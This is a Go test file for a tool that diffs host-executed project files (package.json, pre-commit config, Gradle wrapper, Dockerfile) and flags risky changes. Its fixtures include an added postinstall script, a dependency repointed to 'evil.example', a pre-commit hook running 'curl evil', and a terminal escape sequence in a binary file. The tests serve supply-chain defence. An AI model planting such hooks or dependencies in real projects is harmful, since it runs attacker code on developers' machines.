package diff

import (
	"strings"
	"testing"
)

func TestLineDiff(t *testing.T) {
	old := "a\nb\nc\nd\ne\nf\ng\nh\ni\nj\n"
	cur := "a\nb\nc\nd\ne\nF\ng\nh\ni\nj\n"
	got := strings.Join(lineDiff(old, cur), "\n")
	want := "@@ line 3\n c\n d\n e\n-f\n+F\n g\n h\n i"
	if got != want {
		t.Errorf("lineDiff =\n%s\nwant\n%s", got, want)
	}
	if got := lineDiff("", "x\n"); len(got) != 1 || got[0] != "+x" {
		t.Errorf("lineDiff of a new file = %q", got)
	}
}

func TestPackageJSONDiff(t *testing.T) {
	old := []byte(`{"name":"x","scripts":{"test":"jest","build":"tsc"},"dependencies":{"a":"1.0.0"}}`)
	cur := []byte(`{"name":"x","scripts":{"test":"jest --ci","postinstall":"node x.js"},"dependencies":{"a":"git+https://evil.example/a.git"},"bin":{"x":"x.js"}}`)
	got := strings.Join(packageJSONDiff(old, cur, false), "\n")
	for _, want := range []string{
		"scripts.build removed (was: tsc)",
		"scripts.postinstall added [runs on npm install]: node x.js",
		"scripts.test changed:\n-  jest\n+  jest --ci",
		`dependencies.a: "1.0.0" → "git+https://evil.example/a.git"`,
		`bin: (none) → {"x":"x.js"}`,
	} {
		if !strings.Contains(got, want) {
			t.Errorf("packageJSONDiff lacks %q:\n%s", want, got)
		}
	}
	if strings.Contains(got, "name") {
		t.Errorf("an unchanged key is listed:\n%s", got)
	}
	if packageJSONDiff(old, []byte("{not json"), false) != nil {
		t.Error("invalid JSON must fall back to the line diff (nil)")
	}
}

func TestPreCommitDiff(t *testing.T) {
	old := []byte("repos:\n- repo: https://r\n  rev: v1\n  hooks:\n  - id: a\n")
	cur := []byte("default_install_hook_types: [pre-commit, post-checkout]\nrepos:\n- repo: https://r\n  rev: v2\n  hooks:\n  - id: a\n    entry: curl evil\n")
	got := strings.Join(preCommitDiff(old, cur), "\n")
	for _, want := range []string{`repo https://r rev: "v1" → "v2"`, "hook a (repo https://r) changed:", "curl evil", "default_install_hook_types: null → [\"pre-commit\",\"post-checkout\"]"} {
		if !strings.Contains(got, want) {
			t.Errorf("preCommitDiff lacks %q:\n%s", want, got)
		}
	}
	if preCommitDiff(old, []byte("repos: [")) != nil {
		t.Error("invalid YAML must fall back to the line diff (nil)")
	}
}

// TestBinaryAndLargeSummarised: host-executed files that are binary or large get a one-line
// summary, never their bytes.
func TestBinaryAndLargeSummarised(t *testing.T) {
	r := newRepo(t, baseFiles)
	r.record()
	r.write("gradle/wrapper/gradle-wrapper.jar", "PK\x03\x04\x00\x00binary\x1b[2J")
	r.write("Dockerfile", strings.Repeat("RUN true\n", 200000))
	rep := r.compare(Options{})
	checkFindings(t, rep, []want{
		{"gradle/wrapper/gradle-wrapper.jar", "jvm", "binary: 0 → 16 bytes"},
		{"Dockerfile", "container", "1800000 bytes, larger than 1048576: not shown"},
	}, false)
	checkTextSafe(t, rep)
}

// TestManyFindingsSummarised: text output caps one group's findings without --all, but says
// how many more there are.
func TestManyFindingsSummarised(t *testing.T) {
	var fs []Finding
	for i := range 120 {
		fs = append(fs, Finding{Severity: High, Group: "node", Path: "node_modules/p" + itoa(i) + "/package.json", Reason: "r"})
	}
	var b strings.Builder
	if err := WriteText(&b, &Report{Findings: fs}, TextOptions{}); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.String(), "… 70 more HIGH [node] findings") || strings.Contains(b.String(), "p119/") {
		t.Errorf("120 findings not capped at 50 with a count:\n%s", b.String())
	}
	b.Reset()
	_ = WriteText(&b, &Report{Findings: fs}, TextOptions{All: true})
	if !strings.Contains(b.String(), "p119/") {
		t.Error("--all does not show every finding")
	}
}
